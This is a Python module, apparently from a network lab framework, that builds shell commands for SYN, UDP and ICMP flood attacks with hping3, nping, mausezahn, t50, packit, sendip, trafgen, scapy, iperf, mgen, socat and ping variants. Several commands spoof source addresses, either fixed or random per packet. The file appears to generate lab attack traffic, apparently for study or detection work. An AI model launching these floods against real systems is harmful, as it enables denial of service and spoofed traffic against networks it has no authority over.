"""Floods of packets: SYN, UDP, ICMP."""

from __future__ import annotations

from wirespeak.lab.attacks.tool import MOST_PACKETS_PER_S, Strike, own, tool


def _hping(
    s: Strike, *mode: str, rate: float, port: int = 0, size: int = 0, spoof: str = "", keep: bool = False
) -> list[str]:
    """spoof: "" none, "fixed" one outside address, "random" another for each packet."""
    pace = ["-i", f"u{int(1e6 / min(rate, MOST_PACKETS_PER_S))}", "-c", str(s.count(rate)), "-q", "-n"]
    source = {"": [], "fixed": ["-a", s.outsider()], "random": ["--rand-source"]}[spoof]
    return [
        "hping3",
        *mode,
        *pace,
        *(["-p", str(port)] if port else []),
        *(["-d", str(size)] if size else []),
        *(["-k"] if keep else []),
        *source,
        s.address,
    ]


def _nping(s: Strike, *mode: str, rate: float) -> list[str]:
    return [
        "nping",
        *mode,
        "--rate",
        str(int(min(rate, MOST_PACKETS_PER_S))),
        "-c",
        str(s.count(rate)),
        "-q",
        "-N",
        s.address,
    ]


def _mausezahn(s: Strike, kind: str, packet: str, *, rate: float, size: int = 0) -> list[str]:
    pause = max(int(1e6 / min(rate, MOST_PACKETS_PER_S)), 500)
    ends = ["-A", s.attacker.address, "-B", s.address, "-a", s.attacker.mac, "-b", s.target.mac]
    pace = ["-c", str(s.count(rate)), "-d", f"{pause}usec"]
    return ["mausezahn", "eth0", "-q", *pace, *(["-p", str(size)] if size else []), *ends, "-t", kind, packet]


def _t50(s: Strike, protocol: str, *what: str, rate: float) -> list[str]:
    burst = max(1, round(min(rate, MOST_PACKETS_PER_S) / 4))
    one = f"t50 {s.address} --protocol {protocol} --saddr {s.attacker.address} --threshold {burst} {' '.join(what)}"
    return ["sh", "-c", f"for i in $(seq {s.count(rate) // burst}); do {one} >/dev/null; sleep 0.25; done"]


def _packit(s: Strike, *packet: str, rate: float) -> list[str]:
    burst = max(1, round(min(rate, MOST_PACKETS_PER_S)))
    pace = ["-c", str(s.count(rate)), "-b", str(burst), "-w", "1"]
    return ["packit", *packet, "-i", "eth0", "-s", s.attacker.address, "-d", s.address, *pace]


def _sendip(s: Strike, packet: str, *, rate: float) -> list[str]:
    one = f"sendip -p ipv4 -is {s.attacker.address} {packet} {s.address}"
    pause = 1 / min(rate, MOST_PACKETS_PER_S)
    return ["sh", "-c", f"for i in $(seq {s.count(rate)}); do {one}; sleep {pause:.4f}; done"]


def _trafgen(s: Strike, packet: str, *, rate: float) -> list[str]:
    """The queue of the interface is asked for: without it packets would pass by the delay of the wireless link."""
    outer = f"eth(da={s.target.mac}, sa={s.attacker.mac}), ipv4(da={s.address}, sa={s.attacker.address}, ttl={s.attacker.ttl}, id=drnd())"
    pace = ["--num", str(s.count(rate)), "--rate", f"{int(min(rate, MOST_PACKETS_PER_S))}pps"]
    own_way = ["--cpus", "1", "--notouch-irq", "--no-sock-mem", "--qdisc-path", "--no-cpu-stats"]
    return ["trafgen", "--dev", "eth0", *pace, *own_way, f"{{ {outer}, {packet} }}"]


def _scapy(s: Strike, packet: str, *, rate: float) -> list[str]:
    outer = f"Ether(src='{s.attacker.mac}', dst='{s.target.mac}') / IP(src='{s.attacker.address}', dst='{s.address}', ttl={s.attacker.ttl}, id=RandShort())"
    pace = f"count={s.count(rate)}, inter={1 / min(rate, MOST_PACKETS_PER_S):.5f}"
    orders = f"from scapy.all import *; sendp({outer} / {packet}, iface='eth0', verbose=0, {pace})"
    return ["/usr/bin/python3", "-c", orders]


@tool("flood.syn", package="hping3")
def hping3_syn(
    s: Strike,
    *,
    port: int = 80,
    rate: float = 300.0,
    size: int = 0,
    spoof: str = "",
    keep: bool = False,
    window: int = 64,
) -> list[str]:
    """SYN after SYN to one port."""
    return [*_hping(s, "-S", rate=rate, port=port, size=size, spoof=spoof, keep=keep), "-w", str(window)]


@tool("flood.syn")
def own_syn(
    s: Strike,
    *,
    port: int = 80,
    rate: float = 300.0,
    spoof: bool = False,
    ports: int = 1,
    bare: bool = False,
    size: int = 0,
) -> list[str]:
    """SYNs with the options a real system sends, or without any, and with data or none, to one or several ports."""
    return own(
        "packets",
        "syn_flood",
        target=s.address,
        ports=[port + i for i in range(ports)],
        rate=rate,
        count=s.count(rate),
        source="" if spoof else s.attacker.address,
        bare=bare,
        size=min(size, 1200),
        seed=s.random.getrandbits(32),
        ttl=s.attacker.ttl,
    )


@tool("flood.syn", package="nmap")
def nping_syn(s: Strike, *, port: int = 80, rate: float = 200.0) -> list[str]:
    """nping's TCP mode."""
    return _nping(s, "--tcp", "--flags", "syn", "-p", str(port), rate=rate)


@tool("flood.syn", package="netsniff-ng")
def mausezahn_syn(s: Strike, *, port: int = 80, rate: float = 200.0, window: int = 1024) -> list[str]:
    """mausezahn's TCP packets, each from the next port."""
    return _mausezahn(s, "tcp", f"dp={port},sp=1024-65000,flags=syn,win={window}", rate=rate)


@tool("flood.syn", package="t50")
def t50_syn(s: Strike, *, port: int = 80, rate: float = 200.0) -> list[str]:
    """t50's SYNs, a burst every quarter of a second: it knows no pace."""
    return _t50(s, "TCP", "-S", "--dport", str(port), "--window", "8192", rate=rate)


@tool("flood.udp", package="hping3")
def hping3_udp(
    s: Strike, *, port: int = 53, rate: float = 300.0, size: int = 120, spoof: str = "", keep: bool = False
) -> list[str]:
    """UDP datagrams to one port, a new source port each unless `keep`."""
    return _hping(s, "--udp", rate=rate, port=port, size=size, spoof=spoof, keep=keep)


@tool("flood.udp")
def own_udp(s: Strike, *, port: int = 0, rate: float = 300.0, size: int = 512, sockets: int = 1) -> list[str]:
    """Datagrams from real sockets; port 0 means another random port each time."""
    return own(
        "packets",
        "udp_flood",
        target=s.address,
        port=port,
        rate=rate,
        count=s.count(rate),
        size=size,
        sockets=sockets,
        seed=s.random.getrandbits(32),
    )


@tool("flood.udp", package="nmap")
def nping_udp(s: Strike, *, port: int = 161, rate: float = 200.0, size: int = 64) -> list[str]:
    """nping's UDP mode."""
    return _nping(s, "--udp", "-p", str(port), "--data-length", str(size), rate=rate)


@tool("flood.udp", package="netsniff-ng")
def mausezahn_udp(
    s: Strike, *, port: int = 53, rate: float = 200.0, size: int = 200, one: bool = False
) -> list[str]:
    """mausezahn's UDP datagrams, each from the next port, or with `one` all from one."""
    return _mausezahn(s, "udp", f"dp={port},sp={'4000' if one else '1024-65000'}", rate=rate, size=size)


@tool("flood.icmp", package="hping3")
def hping3_icmp(s: Strike, *, rate: float = 300.0, size: int = 56, spoof: str = "") -> list[str]:
    """Echo requests, each with its own sender or not."""
    return _hping(s, "-1", rate=rate, size=size, spoof=spoof)


@tool("flood.icmp", package="iputils-ping")
def ping_flood(s: Strike, *, rate: float = 200.0, size: int = 56) -> list[str]:
    """ping with a small interval."""
    return [
        "ping",
        "-n",
        "-q",
        "-i",
        f"{1 / min(rate, MOST_PACKETS_PER_S):.4f}",
        "-s",
        str(size),
        "-c",
        str(s.count(rate)),
        s.address,
    ]


@tool("flood.icmp")
def own_icmp(s: Strike, *, rate: float = 300.0, size: int = 400, identities: int = 50) -> list[str]:
    """Echo requests with changing identifiers."""
    return own(
        "packets",
        "icmp_flood",
        target=s.address,
        rate=rate,
        count=s.count(rate),
        size=size,
        identities=identities,
        seed=s.random.getrandbits(32),
    )


@tool("flood.icmp", package="nmap")
def nping_icmp(s: Strike, *, rate: float = 200.0) -> list[str]:
    """nping's ICMP mode."""
    return _nping(s, "--icmp", rate=rate)


@tool("flood.icmp", package="fping")
def fping_flood(s: Strike, *, rate: float = 200.0, size: int = 56) -> list[str]:
    """fping in a loop on one host."""
    return [
        "fping",
        "-q",
        "-p",
        str(max(1, int(1000 / rate))),
        "-b",
        str(size),
        "-c",
        str(s.count(rate)),
        s.address,
    ]


@tool("flood.icmp", package="netsniff-ng")
def mausezahn_icmp(s: Strike, *, rate: float = 200.0, spoof: bool = False) -> list[str]:
    """mausezahn's echo requests, with `spoof` each from another address."""
    command = _mausezahn(s, "icmp", "ping", rate=rate)
    return [("rand" if spoof and word == s.attacker.address else word) for word in command]


@tool("flood.udp", package="t50")
def t50_udp(s: Strike, *, port: int = 53, rate: float = 200.0) -> list[str]:
    """t50's UDP datagrams, a burst every quarter of a second."""
    return _t50(s, "UDP", "--dport", str(port), rate=rate)


@tool("flood.icmp", package="t50")
def t50_icmp(s: Strike, *, rate: float = 200.0) -> list[str]:
    """t50's echo requests, a burst every quarter of a second."""
    return _t50(s, "ICMP", "--icmp-type", "8", rate=rate)


@tool("flood.syn", package="packit")
def packit_syn(s: Strike, *, port: int = 80, rate: float = 200.0) -> list[str]:
    """packit's SYNs, a burst every second: it counts in seconds."""
    return _packit(s, "-t", "TCP", "-F", "S", "-D", str(port), rate=rate)


@tool("flood.udp", package="packit")
def packit_udp(s: Strike, *, port: int = 53, rate: float = 200.0, text: str = "wirespeak") -> list[str]:
    """packit's UDP datagrams, a burst every second."""
    return _packit(s, "-t", "UDP", "-D", str(port), "-p", text, rate=rate)


@tool("flood.icmp", package="packit")
def packit_icmp(s: Strike, *, rate: float = 200.0, timestamp: bool = False) -> list[str]:
    """packit's echo or timestamp requests, a burst every second."""
    return _packit(s, "-t", "ICMP", "-K", "13" if timestamp else "8", rate=rate)


@tool("flood.syn", package="sendip")
def sendip_syn(s: Strike, *, port: int = 80, rate: float = 60.0) -> list[str]:
    """A process of sendip for every SYN, with a random port and window."""
    return _sendip(s, f"-p tcp -ts r -td {port} -tw r", rate=rate)


@tool("flood.udp", package="sendip")
def sendip_udp(s: Strike, *, port: int = 53, rate: float = 60.0, size: int = 64) -> list[str]:
    """A process of sendip for every datagram, with a random port."""
    return _sendip(s, f"-p udp -us r -ud {port} -d r{size}", rate=rate)


@tool("flood.icmp", package="sendip")
def sendip_icmp(s: Strike, *, rate: float = 60.0, size: int = 60) -> list[str]:
    """A process of sendip for every echo request; identifier and number are random, as the data is."""
    return _sendip(s, f"-p icmp -ct 8 -d r{size}", rate=rate)


@tool("flood.udp", package="iperf")
def iperf_udp(
    s: Strike, *, port: int = 5001, rate: float = 200.0, size: int = 400, streams: int = 1
) -> list[str]:
    """iperf's datagrams to a port where no iperf listens: one conversation for each of `streams`."""
    count = s.count(rate)
    seconds = max(1, int(count / min(rate, MOST_PACKETS_PER_S)))
    pace = ["-P", str(streams), "-b", f"{count // (seconds * streams)}pps", "-t", str(seconds)]
    return [
        "iperf",
        "--client",
        s.address,
        "-u",
        "-p",
        str(port),
        "-l",
        str(max(60, size)),
        *pace,
        "--no-udp-fin",
    ]


@tool("flood.syn", package="netsniff-ng")
def trafgen_syn(s: Strike, *, port: int = 80, rate: float = 200.0, window: int = 29200) -> list[str]:
    """trafgen's SYNs, from random ports with random numbers."""
    packet = f"tcp(sp=drnd(1024, 65000), dp={port}, seq=drnd(), win={window}, syn)"
    return _trafgen(s, packet, rate=rate)


@tool("flood.icmp", package="netsniff-ng")
def trafgen_icmp(s: Strike, *, rate: float = 200.0, size: int = 64) -> list[str]:
    """trafgen's echo requests, each with its own identifier and with random data."""
    return _trafgen(s, f"icmp4(type=8, id=drnd(), seq=dinc()), drnd({min(size, 1400)})", rate=rate)


@tool("flood.syn", package="python3-scapy")
def scapy_syn(s: Strike, *, port: int = 80, rate: float = 100.0) -> list[str]:
    """scapy's SYNs, from random ports, with the options a real system sends."""
    options = "options=[('MSS', 1460), ('SAckOK', b''), ('Timestamp', (RandInt(), 0)), ('NOP', None), ('WScale', 7)]"
    packet = f"TCP(sport=RandShort(), dport={port}, seq=RandInt(), window=64240, flags='S', {options})"
    return _scapy(s, packet, rate=rate)


@tool("flood.udp", package="mgen")
def mgen_udp(
    s: Strike, *, port: int = 5000, rate: float = 200.0, size: int = 256, flows: int = 1
) -> list[str]:
    """mgen's datagrams, at random times, in `flows` conversations that begin one after another."""
    count, each = s.count(rate) // flows, min(rate, MOST_PACKETS_PER_S) / flows
    orders = [
        f"{s.seconds * n / 2 / flows:.2f} ON {n + 1} UDP DST {s.address}/{port} POISSON [{each:g} {min(size, 1400)}] COUNT {count}"
        for n in range(flows)
    ]
    return ["mgen", "ipv4", *(word for order in orders for word in ("event", order)), "output", "/dev/null"]


@tool("flood.udp", package="socat")
def socat_udp(s: Strike, *, port: int = 53, rate: float = 60.0, size: int = 64) -> list[str]:
    """A process of socat for every datagram of random bytes, each from another port."""
    one = f"head --bytes={min(size, 1400)} /dev/urandom | socat -u - UDP4:{s.address}:{port}"
    pause = 1 / min(rate, MOST_PACKETS_PER_S)
    return ["sh", "-c", f"for i in $(seq {s.count(rate)}); do {one}; sleep {pause:.4f}; done"]


@tool("flood.icmp", package="oping")
def oping_flood(s: Strike, *, rate: float = 100.0, burst: int = 20) -> list[str]:
    """oping again and again, with `burst` echo requests each time."""
    burst = max(1, min(burst, s.count(rate)))
    one = f"oping -4 -c {burst} -i {1 / min(rate, MOST_PACKETS_PER_S):.4f} -w 0.5 {s.address} >/dev/null"
    return ["sh", "-c", f"for i in $(seq {s.count(rate) // burst}); do {one}; done"]
